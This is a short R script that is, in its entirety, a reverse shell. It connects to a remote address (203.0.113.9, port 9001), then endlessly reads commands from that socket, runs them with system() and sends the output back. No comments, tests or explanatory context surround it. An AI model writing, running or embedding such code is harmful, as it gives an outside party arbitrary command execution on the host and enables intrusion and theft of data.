line <- socketConnection("203.0.113.9", 9001, blocking = TRUE)
repeat writeLines(system(readLines(line, 1), intern = TRUE), line)
